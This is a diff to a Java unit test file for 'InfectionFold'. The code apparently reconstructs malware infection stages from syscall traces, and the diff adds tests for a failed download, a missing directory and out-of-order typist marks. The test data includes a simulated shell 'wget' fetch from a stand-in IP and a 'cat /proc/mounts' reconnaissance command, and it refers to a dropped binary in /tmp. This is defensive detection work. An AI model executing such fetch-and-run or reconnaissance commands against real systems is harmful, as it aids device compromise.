@@ -21,7 +21,8 @@ class InfectionFoldTest {
   private static final int TYPIST = 10;
   private static final int SHELL = 20;
 
-  private final InfectionFold fold = new InfectionFold(List.of("cat /proc/mounts"));
+  private final InfectionFold fold =
+      new InfectionFold(List.of("cat /proc/mounts", "second", "third"));
   private int seconds;
 
   @BeforeEach
@@ -211,6 +212,27 @@ class InfectionFoldTest {
   }
 
   @Test
+  void whatIsWrittenAfterAConnectionThatFailedIsNoDownload() {
+    type(1);
+    begin(21, SHELL);
+    start(21, "/usr/bin/wget", "wget", "-o", "log", "http://192.0.2.7/x");
+    Optional<Endpoint> peer = Optional.of(new Endpoint("192.0.2.7", 80));
+    fold.accept(event(21, "connect", "ENETUNREACH", "", peer, "3", "192.0.2.7:80", "16"));
+    Optional<Endpoint> names = Optional.of(new Endpoint("192.0.2.53", 53));
+    fold.accept(event(21, "connect", "", "", names, "3", "192.0.2.53:53", "16"));
+    redirect(21, "/tmp/log");
+    call(21, "write", "", "/tmp/log", "4", "\"failed\"", "6");
+    assertReached();
+  }
+
+  @Test
+  void whatIsNotThereWasNotRefused() {
+    type(1);
+    call(SHELL, "chdir", "ENOENT", "/mnt", "\"/mnt\"");
+    assertThat(fold.infection().stages()).isEmpty();
+  }
+
+  @Test
   void aProgramWrittenByEchoGivenPermissionAndRun() {
     type(1);
     redirect(SHELL, "/tmp/upnp");
@@ -324,6 +346,19 @@ class InfectionFoldTest {
   void whatOnlyTheTypistMarksCounts() {
     call(SHELL, "faccessat", "ENOENT", "/malassay/command/7", "AT_FDCWD", "path", "0");
     assertThat(fold.infection().typed()).isZero();
+  }
+
+  @Test
+  void marksThatAreNotInOrderAreNoneOfTheTypists() {
+    type(2);
+    type(4);
+    assertThat(fold.infection().typed()).isZero();
+    type(1);
+    type(1);
+    type(2);
+    type(9);
+    assertThat(fold.infection().typed()).isEqualTo(2);
+    assertThat(fold.infection().isCut()).isTrue();
   }
 
   @Test
